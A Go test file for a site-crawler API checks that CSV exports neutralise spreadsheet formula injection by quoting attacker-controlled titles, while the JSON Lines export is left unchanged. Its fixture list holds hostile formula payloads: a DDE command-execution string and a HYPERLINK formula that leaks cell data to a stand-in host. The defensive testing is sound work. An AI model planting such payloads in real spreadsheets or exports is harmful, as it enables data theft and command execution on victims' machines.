package httpapi_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/pinsight/pinsight/adapters/httpapi/internal/apitest"
	"github.com/pinsight/pinsight/adapters/memory"
	"github.com/pinsight/pinsight/app/crawls"
	"github.com/pinsight/pinsight/domain/crawl"
	"github.com/pinsight/pinsight/ports"
)

// formulaTitles are page titles and descriptions a hostile site plants
// for the auditor's spreadsheet.
var formulaTitles = []string{`=cmd|' /C calc'!A0`, `+HYPERLINK("http://evil.test/?leak="&A1,"click")`, `@SUM(A1:A9)`, `-2+3`, "\t=1", "\r=1"}

// TestCrawlExportNeutralisesFormulas: a CSV export writes the titles,
// descriptions and issue details a crawled site controls as text when a
// spreadsheet would read them as formulas (a single quote in front),
// numbers stay numbers; the JSON Lines export is left as it is.
func TestCrawlExportNeutralisesFormulas(t *testing.T) {
	reports := memory.NewReportStore()
	store, jobs := memory.NewCrawlStore(reports), memory.NewJobs(reports, ports.JobSettings{})
	jobs.Crawls(store)
	routes := queuedCrawlRoutes(reports)
	routes.Crawls = crawls.New(store, jobs, nil, apitest.Passwords, crawls.Config{DailyPages: -1, ActiveLimit: -1})
	h := apitest.NewHandler(t, routes)
	key := apitest.Bearer(apitest.Login(t, h, "export@example.com"))

	ctx := context.Background()
	s, err := crawl.NewSettings(crawl.Params{URL: "https://site.example/"})
	if err != nil {
		t.Fatal(err)
	}
	c, err := store.CreateCrawl(ctx, crawl.Crawl{UserID: 1, Site: "site.example", Settings: s, CreatedAt: time.Now()}, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	var pages []ports.FetchedPage
	for i, title := range formulaTitles {
		u := "https://site.example/p" + string(rune('a'+i))
		pages = append(pages, ports.FetchedPage{Page: crawl.Page{URL: u, FinalURL: u, Status: 200, Depth: 1, Title: title, Description: title},
			Score: 50, FetchedAt: time.Now()})
	}
	if err := store.RecordPages(ctx, c.ID, nil, pages); err != nil {
		t.Fatal(err)
	}
	if err := store.SaveIssues(ctx, c.ID, []crawl.Issue{{Type: crawl.DuplicateTitle, URL: "https://site.example/pa", Detail: "=1+1"}}); err != nil {
		t.Fatal(err)
	}

	get := func(what, format string) string {
		t.Helper()
		req := httptest.NewRequest(http.MethodGet, "/api/v1/crawls/"+apitest.Itoa(c.ID)+"/export?what="+what+"&format="+format, nil)
		req.Header.Set(key[0], key[1])
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		if rec.Code != http.StatusOK {
			t.Fatalf("export %s %s = %d %s", what, format, rec.Code, rec.Body)
		}
		return rec.Body.String()
	}
	recs, err := csv.NewReader(strings.NewReader(get("pages", "csv"))).ReadAll()
	if err != nil || len(recs) != len(formulaTitles)+1 {
		t.Fatalf("pages export: %d records (%v), want %d", len(recs), err, len(formulaTitles)+1)
	}
	col := map[string]int{}
	for i, name := range recs[0] {
		col[name] = i
	}
	got := map[string]bool{}
	for _, r := range recs[1:] {
		if r[col["title"]] != r[col["description"]] {
			t.Errorf("title %q and description %q differ", r[col["title"]], r[col["description"]])
		}
		got[r[col["title"]]] = true
		if r[col["score"]] != "50" || r[col["status_code"]] != "200" {
			t.Errorf("numbers changed: score %q, status %q", r[col["score"]], r[col["status_code"]])
		}
	}
	for _, title := range formulaTitles {
		// encoding/csv drops a carriage return inside a cell of CRLF
		// files: "\r=1" is written "'=1", the quote still in front.
		want := "'" + strings.ReplaceAll(title, "\r", "")
		if !got[want] {
			t.Errorf("title %q not exported as %q: got %v", title, want, got)
		}
	}
	issues, err := csv.NewReader(strings.NewReader(get("issues", "csv"))).ReadAll()
	if err != nil || len(issues) != 2 || issues[1][5] != "'=1+1" {
		t.Errorf("issues export = %q (%v), want the detail '=1+1", issues, err)
	}
	if jl := get("pages", "jsonl"); !strings.Contains(jl, `"title":"=cmd|' /C calc'!A0"`) {
		t.Errorf("JSON Lines export changed the title: %s", jl)
	}
}
